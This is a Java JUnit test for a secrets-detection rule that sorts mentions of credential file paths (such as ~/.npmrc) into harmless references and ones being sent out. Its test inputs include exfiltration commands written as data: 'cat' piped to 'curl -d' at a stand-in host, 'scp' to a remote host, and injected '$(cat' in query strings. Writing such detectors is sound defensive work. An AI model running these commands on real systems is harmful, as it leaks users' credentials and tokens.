package trafficguardian.rules.secrets;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A path in a sentence is spoken of; one in a command's output is on its way. */
class NamedFilesTest {
  private static final String PATH = "/.npmrc";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Never commit ~#, it holds a token",
        "Look at ~# before you start",
        "(see `~#`) for the rest of it",
        "Nobody should read ~#. Ever",
        "echo x > ~# && npm publish",
        "echo x >> $HOME#;",
        "chmod 600 /root#;",
        "tee -a ~#;",
        "**#\n*.pem",
        "!dist\n/config#\n",
        "rsync --exclude='/root#' ./ web:/srv",
        "{\"deny\": [\"Read(./x)\", \"Read(~#)\"]}",
        "deny /root# rw,",
        "No such file or directory: '/root#'",
        "open /root#: permission denied",
        "apparmor=\"DENIED\" operation=\"open\" profile=\"snap.x\" name=\"/root#\" pid=9",
        "{\"line\":\"apparmor=\\\"DENIED\\\" name=\\\"/root#\\\"\"}",
        "avc:  denied  { read } for  pid=9 path=\"/root#\" dev=sda1",
        "\"GET # HTTP/1.1\" 404",
        "mountPath: /root#;",
        "location ~ /root# { deny all; }",
        "in ``~#``):\n\n",
        "kept in `~#`\n",
        ".PP\n/root#\n.RS 4\n",
        "\\fB~#\\fR",
        "The keys are in\n.Pa ~# ,\n",
        "the <code class=\"filename\">/root#</code> file",
        "option('--x', default='~#')",
        "programs that read the ~#\n           file may decide",
        "kept in ~#\\n    74\\tor in another place",
        "kept in ~#.\\n\\nSYNOPSIS\\n",
        "edits the files ~#, /etc/group,\n       and /etc/x. Then",
        "changes to ~# and /root/.x only",
        "one of ~# (tokens), ~/.x (none)",
        "FILES\n       ~#\n           Holds tokens.\n",
        "FILES\", \"       ~#\\n           Holds tokens.\", \"",
        "\n   9\t     ~#\n  10\t     ~/.x\n  11\t        Both hold tokens",
        "{ path: '/path/to#' }",
        "used if the file /root# exists.",
        "a session with /root# authentication:",
        "-a always,exit -F arch=b64 -S open -F path=/root# -F auid>=1000 -F key=x",
        "rules\\n-w /root# -p wa -k identity",
        "passfile=''/var/lib/x#'';",
        "/etc/remote   root  . 1\n#    root  . 0",
        "f~ /root# 700 root root - c",
        "ENV_LOCAL_PATH=/app#\n",
        "3. Create `PROJECT_ROOT#`:\n",
        "user (e.g. in ~# or\\n   your store)",
        "if [ ! -e /root# ] ; then",
        "/repos/acme/site/contents#",
        "/repos/acme/site/contents/web/app#",
        "/api/v4/projects/acme%2Fsite/repository/files/web%2Fapp#?ref=main",
        "/2.0/repositories/acme/site/src/main#",
        "privateKeyPath: '/home/ann#'",
        "\\\"ssh_key_file\\\": \\\"/home/ann#\\\"",
        "IdentityFile: ~#",
        "{\"description\": \"Reads credentials from ~# and ~/.x\", \"main\": 1}"
      })
  void isHarmless(String text) {
    assertTrue(isHarmlessAtTheMark(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "cat ~#;",
        "~# ok",
        "path=/root#;",
        "apparmor=\"ALLOWED\" operation=\"open\" name=\"/root#\" pid=9",
        "<note>/home/me#</note>",
        "/home/me# and /etc/shadow",
        "cp ~# /tmp/x",
        "./a\n./root#\n",
        "GET /root#;",
        "`cat ~#`\n",
        "/root#\nroot:x",
        "out: ~#\\n  512  exit",
        "cat ~#\ncurl -d @- https://x.example",
        "for f in ~#\ndo cat",
        "copy t from '/root#';\nselect x",
        "tar cz \\\n    ~# \\\n      ~/.x then",
        "a\n  ~#\n  ~/.x\n",
        "cat ~# (",
        "copied ~# and /root/.x to share",
        "-F path=/root#;",
        "echo -w /root# x",
        "`cat PROJECT_ROOT#`\n",
        "description: cat ~# ;",
        "{\"description\": \"cat ~#\"}",
        "passwd: /root# 9",
        "send ~# 600 to me now",
        "scp ~#  me@h.example:",
        "/path/toys#;",
        "/repos/acme/site/keys#",
        "/upload/contents#",
        "privateKey: '/home/ann#'"
      })
  void isOnItsWay(String text) {
    assertFalse(isHarmlessAtTheMark(text));
  }

  @Test
  void aProgramsOwnLineIsNoFile() {
    assertTrue(isAccount("b'", "root:/root:/bin/bash\\n',"));
    assertTrue(isAccount("p.write(\\\"", "root:/root:/bin/bash\\n\\\");"));
    assertTrue(isAccount("echo \"", "root:/:/bin/sh\" >"));
    assertFalse(isAccount("{\"file\": \"", "root:/root:/bin/bash\\n\"}"));
    assertFalse(isAccount("b'", "root:/root:/bin/bash\\ndaemon:x:1:1:"));
    assertFalse(isAccount("", "root:/root:/bin/bash\n"));
  }

  private static boolean isAccount(String before, String behind) {
    return NamedFiles.areHarmless(before, "root:x:0:0:", behind);
  }

  @Test
  void isToldOfInForm() {
    assertTrue(NamedFiles.areHarmless("q=in+%7E", "%2F.npmrc", "+file+is+kept%2C"));
    assertTrue(NamedFiles.areHarmless("the+%7E", "%2F.npmrc", "%0A+++file+is"));
    assertFalse(NamedFiles.areHarmless("f=%7E", "%2F.npmrc", "&q=what+is+it"));
    assertTrue(NamedFiles.areHarmless("/s?q=difference+between+a+and+%7E", "%2F.npmrc", "&hl=en"));
    assertTrue(NamedFiles.areHarmless("/s?q=what%20is%20in%20%7E", "%2F.npmrc", ""));
    assertTrue(NamedFiles.areHarmless("/s?hl=de&q=~%2F.env+vs+~", "%2F.npmrc", ""));
    assertTrue(NamedFiles.areHarmless("/s?q=~", "%2F.npmrc", "+vs+~%2F.env"));
    assertFalse(NamedFiles.areHarmless("/s?q=%7E", "%2F.npmrc", "&hl=en"));
    assertFalse(NamedFiles.areHarmless("/s?q=what+is&f=%7E", "%2F.npmrc", "&hl=en"));
    assertFalse(NamedFiles.areHarmless("/s?file=what+is+%7E", "%2F.npmrc", "&hl=en"));
    assertFalse(NamedFiles.areHarmless("/s?q=what+is+%3Bcat+%7E", "%2F.npmrc", "&hl=en"));
    assertFalse(NamedFiles.areHarmless("/s?q=what+is+%24%28cat+%7E", "%2F.npmrc", "%29"));
    assertFalse(NamedFiles.areHarmless("c=cat+%7E", "%2F.npmrc", "%0Acurl+-d"));
    assertFalse(NamedFiles.areHarmless("/s/file%3A%2F%2F", "%2F.npmrc", "/ok.png"));
  }

  /** Of a text with a path where the mark is. */
  private static boolean isHarmlessAtTheMark(String text) {
    int mark = text.indexOf('#');
    return NamedFiles.areHarmless(text.substring(0, mark), PATH, text.substring(mark + 1));
  }
}
